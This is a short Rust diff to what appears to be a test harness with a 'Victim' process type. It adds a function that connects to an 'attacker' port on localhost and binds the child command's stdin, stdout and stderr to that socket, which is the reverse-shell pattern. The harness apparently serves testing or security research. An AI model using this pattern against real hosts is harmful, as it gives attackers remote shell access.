@@ -66,6 +66,14 @@ impl Victim {
     }
 }
 
+/// Runs a command with a connection to the attacker's port on fds 0-2; the connection's own port.
+pub fn on_socket(attacker: u16, mut command: Command) -> (Victim, u16) {
+    let stream = std::net::TcpStream::connect(("127.0.0.1", attacker)).unwrap();
+    let stdio = || Stdio::from(OwnedFd::from(stream.try_clone().unwrap()));
+    command.stdin(stdio()).stdout(stdio()).stderr(stdio());
+    (Victim::spawn(command), stream.local_addr().unwrap().port())
+}
+
 impl Drop for Victim {
     fn drop(&mut self) {
         let _ = killpg(Pid::from_raw(self.0.id().cast_signed()), Signal::SIGKILL);
